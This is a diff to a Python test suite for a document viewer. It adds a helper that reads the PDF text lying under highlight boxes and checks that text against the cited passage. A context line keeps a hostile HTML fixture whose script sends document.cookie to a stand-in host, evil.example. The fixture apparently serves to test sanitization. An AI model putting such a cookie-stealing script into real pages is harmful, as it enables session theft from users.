@@ -28,7 +28,7 @@ from viewer.config import ViewerConfig
 from viewer.documents import TextRequest, view_file
 from viewer.html import clean, markdown_html
 from viewer.locate import locate, passage_body
-from viewer.pages import PageRequest, draw_pdf_page
+from viewer.pages import PageImage, PageRequest, draw_pdf_page
 from viewer.service import SourceViewer, UnknownSource, View
 
 HOSTILE_HTML = """<html><head><title>Tool library</title><script>fetch('http://evil.example/?c='+document.cookie)</script>
@@ -252,6 +252,24 @@ def _cite(kb: KnowledgeBase, path: Path, needle: str) -> tuple[str, str, str]:
     raise AssertionError(f"no chunk of {path} holds {needle!r}")
 
 
+def _text_under(pdf: bytes, image: PageImage) -> str:
+    """PDFium's own text inside the drawn highlight's boxes (pixels back to points): what a reader sees marked."""
+    import pypdfium2 as pdfium
+
+    document = pdfium.PdfDocument(pdf)
+    try:
+        page = document[image.page - 1]
+        left, _, _, top = page.get_cropbox()
+        scale = image.width / page.get_size()[0]
+        textpage = page.get_textpage()
+        return " ".join(
+            textpage.get_text_bounded(left + x0 / scale, top - y1 / scale, left + x1 / scale, top - y0 / scale)
+            for x0, y0, x1, y1 in image.passage_boxes
+        )
+    finally:
+        document.close()
+
+
 def test_each_type_opens_at_its_passage(library: tuple[KnowledgeBase, SourceViewer, Path]) -> None:
     kb, viewer, folder = library
     for name, needle in [("rules.md", "Tuesdays"), ("tools.html", "Late returns"), ("prices.csv", "Saddle")]:
@@ -266,6 +284,7 @@ def test_each_type_opens_at_its_passage(library: tuple[KnowledgeBase, SourceView
     assert view.page == 2 and view.page_image is not None and view.page_image.found == "text"
     assert view.page_image.previous == 1 and view.page_image.passage_boxes
     assert words(view.page_image.highlighted_text) == words(passage_body(text)[1])
+    assert words(_text_under((folder / "report.pdf").read_bytes(), view.page_image)) == words(passage_body(text)[1])
     assert view.file_link.endswith("report.pdf#page=2")
 
     source_id, chunk_id, _ = _cite(kb, folder / "prices.xlsx", "Chain")
